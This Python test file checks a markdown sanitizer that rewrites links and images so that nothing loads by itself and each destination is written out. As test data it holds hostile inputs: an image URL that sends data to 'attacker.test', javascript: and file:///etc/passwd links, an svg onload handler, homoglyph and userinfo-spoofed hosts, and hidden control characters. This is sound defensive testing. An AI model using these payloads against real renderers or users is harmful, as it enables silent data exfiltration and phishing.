"""Markdown that is safe to render: nothing loads by itself, and every link says where it leads."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from capbox.surfaces.links import links_shown
from capbox.surfaces.markdown import CHARACTERS_MAX, safe_markdown

RENDERERS = (
    MarkdownIt("commonmark"),
    MarkdownIt("commonmark").enable(["table", "strikethrough"]),
    MarkdownIt("commonmark", {"maxNesting": 100}),
)
for renderer in RENDERERS:
    renderer.validateLink = lambda url: True  # type: ignore[method-assign]

# What text itself becomes when it is rendered; nothing here loads or leads anywhere.
HARMLESS = re.compile(
    r"</?(?:p|em|strong|s|code|pre|blockquote|ul|ol|li|h[1-6]|hr|br|table|thead|tbody|tr|th|td)\b"
    r"(?: (?:class|start|style)=\"[^\"]*\")*(?: /)?>"
)


def leads_elsewhere(text: str) -> list[str]:
    """Return what is left of the tags of a rendered text without the harmless ones."""
    html = [one.render(text) for one in RENDERERS]
    return [tag for page in html for tag in re.findall(r"<[^>]*", HARMLESS.sub("", page))]


SHOWN = [
    # Images.
    ("![x](https://attacker.test/?d=S)", "(image: x, attacker.test: https://attacker.test/?d=S)"),
    ("![](//a.test/i.png)", "(image: a.test: //a.test/i.png)"),
    ("![*a* `b`](<https://a.test/i> 'title')", "(image: *a* b, a.test: https://a.test/i)"),
    (
        "![x ![y](https://b.test)](https://a.test)",
        "(image: x !y(https://b.test), a.test: https://a.test)",
    ),
    ("![i](i.png)", "(image: i, i.png)"),
    # Links.
    ("[the docs](https://evil.test/x)", "the docs (evil.test: https://evil.test/x)"),
    ("[https://good.test](https://evil.test)", "https://good.test (evil.test: https://evil.test)"),
    ("[https://a.test/](https://a.test)", "https://a.test"),
    (
        "[![alt](https://i.test)](https://l.test)",
        "(image: alt, i.test: https://i.test) (l.test: https://l.test)",
    ),
    (
        "[[x](https://a.test) y](https://b.test)",
        "[x (a.test: https://a.test) y]\\(https://b.test)",
    ),
    ("[x](https://good.test@evil.test/)", "x (evil.test: https://good.test@evil.test/)"),
    ("[x](https://аррӏе.com)", "x (xn--80ak6aa92e.com: https://xn--80ak6aa92e.com)"),
    ("[x](HTTPS://EVIL.TEST/A)", "x (evil.test: HTTPS://EVIL.TEST/A)"),
    ("[x](https://evil.test/a_b*c*~)", "x (evil.test: https://evil.test/a_b%2Ac%2A%7E)"),
    ("[x](/a) [y](#b) [z](c.md) [w]()", "x (/a) y (#b) z (c.md) w ()"),
    ("[x](mailto:a@b.test) <a@b.test>", "x (mailto:a@b.test) mailto:a@b.test"),
    ("<https://a.test/b>", "https://a.test/b"),
    ("<https://good.test@evil.test>", "evil.test: https://good.test@evil.test"),
    # None of the web's.
    ("[x](javascript:alert(1))", "x (no web address, javascript with alert(1))"),
    ("[x](JaVa&#115;cript:a)", "x (no web address, javascript with a)"),
    ("[x](data:text/html,a)", "x (no web address, data with text/html,a)"),
    ("[x](file:///etc/passwd)", "x (no web address, file with ///etc/passwd)"),
    ("<vscode:run>", "no web address, vscode with run"),
    # References.
    (
        "[x][r]\n\n[r]: https://a.test 't'",
        "x (a.test: https://a.test)\n\n\\[r]\\: https://a.test 't'",
    ),
    (
        "[r] [r][]\n\n[r]: https://a.test",
        "r (a.test: https://a.test) r (a.test: https://a.test)\n\n\\[r]\\: https://a.test",
    ),
    (
        "> [R]:\n> https://a.test/i\n\n![r]",
        "> \\[R]\\:\n> https://a.test/i\n\n(image: r, a.test: https://a.test/i)",
    ),
    # HTML.
    ('<img src="https://a.test/?d=S">', '&lt;img src="https://a.test/?d=S">'),
    ("a <svg/onload=x> b <!-- c -->", "a &lt;svg/onload=x> b &lt;!-- c -->"),
    (
        "<picture>\n<source srcset=//a.test>\n</picture>",
        "&lt;picture>\n&lt;source srcset=//a.test>\n&lt;/picture>",
    ),
    ("<p>\n\n![x](https://a.test)\n</p>", "&lt;p>\n\n(image: x, a.test: https://a.test)\n&lt;/p>"),
    ("https://a.test<img src=x>", "https://a.test&lt;img src=x>"),
    # cmark takes it for a link although the parentheses are not balanced; CommonMark does not.
    ("[x]((a) <b>\n\n[^1]: ](a", "[x]\\((a) &lt;b>\n\n[^1]\\: ]\\(a"),
    ("<div>\n```\n</div>\n![x](https://a.test)", "&lt;div>\n```\n</div>\n![x](https://a.test)"),
    # Where a paragraph stands among others.
    (
        "> 1. see [two\n>    lines](https://a.test\n>    ) after",
        "> 1. see two lines (a.test: https://a.test) after",
    ),
    (
        "# [h](https://a.test) #\n\n[s](https://b.test)\n===",
        "# h (a.test: https://a.test) #\n\ns (b.test: https://b.test)\n===",
    ),
    (
        "| [a](https://a.test) | [a](https://b.test) |\n|-|-|",
        "| a (a.test: https://a.test) | a (b.test: https://b.test) |\n|-|-|",
    ),
    # In a table the bar ends a cell even between backticks, so this image is one.
    (
        "|a|b|\n|-|-|\n| `x | ![i](https://a.test) ` |",
        "|a|b|\n|-|-|\n| &#96;x | (image: i, a.test: https://a.test) &#96; |",
    ),
    ("|a|\n|-|\n| b\\|[x](https://a.test) |", "|a|\n|-|\n| b\\|x (a.test: https://a.test) |"),
]  # fmt: skip
KEPT = [
    "",
    "Plain *text* with **marks**, a < b, x[0], [brackets] and (parentheses)!\n",
    "- [ ] to do\n- [x] done\n",
    "`![x](https://a.test)` and ``<img src=x>``",
    "`ls | wc` and `a\nb`",
    "```html\n<img src=https://a.test>\n![x](https://a.test)\n```\n",
    "    ![x](https://a.test)\n",
    "https://a.test/b shows itself",
    "\\![x\\](https://a.test) and &lt;img&gt;",
    "| a | b |\n|---|---|\n| 1 | 2 |\n",
]


@pytest.mark.parametrize(("text", "shown"), SHOWN)
def test_what_leads_elsewhere_is_written_out(text: str, shown: str) -> None:
    assert leads_elsewhere(text) != []
    assert safe_markdown(text) == shown
    assert leads_elsewhere(shown) == []


@pytest.mark.parametrize("text", KEPT)
def test_what_leads_nowhere_stays(text: str) -> None:
    assert safe_markdown(text) == text
    assert leads_elsewhere(text) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # To GFM a backslash or a backtick belongs to a bare address before it.
        ("https://a.test\\<img src=x>", "https://a.test&lt;img src=x>"),
        ("https://a.test`` <img src=x> ``", "https://a.test `` <img src=x> ``"),
        # Where code ends depends on whether this is a table, or one paragraph.
        ("`x | y` `<b>`", "&#96;x | y&#96; `<b>`"),
        ("`x\ny` `<b>`", "&#96;x\ny&#96; `<b>`"),
        ("`ls | wc` and `<b>`, `ls | wc`", "&#96;ls | wc&#96; and `<b>`, &#96;ls | wc&#96;"),
        ("1.\t\ta", "1.      a"),
    ],
)
def test_what_other_parsers_find_there_is_no_more(text: str, shown: str) -> None:
    assert safe_markdown(text) == shown
    assert leads_elsewhere(shown) == []


def test_what_hides_in_it_is_spelt_out() -> None:
    assert safe_markdown("a\x1b[2J\u202e") == "a\\x1b[2J\\u202e"
    shown = safe_markdown("[a\u200bb](https://e\u200b.test)")
    assert shown == "a\\u200bb (e%5Cu200b.test: https://e%5Cu200b.test)"


def test_a_long_address_is_cut_with_a_mark_and_keeps_its_host() -> None:
    shown = safe_markdown(f"![x](https://a.test/{'s' * 5_000}end)")
    assert shown.startswith("(image: x, a.test: https://a.test/sss")
    assert " ... 5018 characters ... " in shown and shown.endswith("end)") and len(shown) < 500


@pytest.mark.parametrize(
    "text",
    [
        ">" * 60 + " ![x](https://a.test)",
        "- " * 60 + "![x](https://a.test)",
        "x " * CHARACTERS_MAX + "![x](https://a.test)",
        "[" * 40_000 + "![x](https://a.test)",
        "![" * 30_000 + "](https://a.test)" * 30_000,
    ],
    ids=["quotes", "lists", "long", "open", "images"],
)
def test_what_cannot_be_read_is_escaped_from_end_to_end(text: str) -> None:
    shown = safe_markdown(text)
    assert shown == re.sub(r"[\\`~\[\]<>!]", lambda mark: f"&#{ord(mark[0])};", text)
    assert leads_elsewhere(shown[:20_000]) == []


PARTS = st.sampled_from(
    [
        *("![", "[", "]", "](", "](https://a.test)", "(", ")", "][r]", "\n[r]: https://a.test\n"),
        *("<", ">", "<img src=x>", "<https://a.test>", "<div>", "</div>", "<!--", "-->", "<pre>\n"),
        *("`", "``", "```\n", "~~~\n", "    ", "> ", "- ", "1. ", "# ", "===\n", "\n", "\n\n"),
        *("| a | b |\n|-|-|\n", "|", "\\", "*", "_", "~~", "a", " ", "!", "\t", ":", '"t"'),
        *("&lt;", "javascript:x", "https://b.test"),
    ]
)  # fmt: skip


@given(st.lists(PARTS, max_size=30).map("".join))
@example("`\n<div>`")
@example("[a](b)\n===\n[```](c)\n\n```\n![x](https://a.test)\n```")
def test_nothing_that_is_made_of_these_loads_or_leads_anywhere(text: str) -> None:
    shown = safe_markdown(text)
    assert leads_elsewhere(shown) == []
    assert safe_markdown(shown) == shown


@given(st.lists(PARTS, max_size=30).map("".join))
def test_on_a_terminal_no_image_is_left_outside_of_code(text: str) -> None:
    shown = links_shown(text)
    tokens = RENDERERS[0].parseInline(shown, {})[0].children or []
    assert [token.type for token in tokens if token.type == "image"] == []
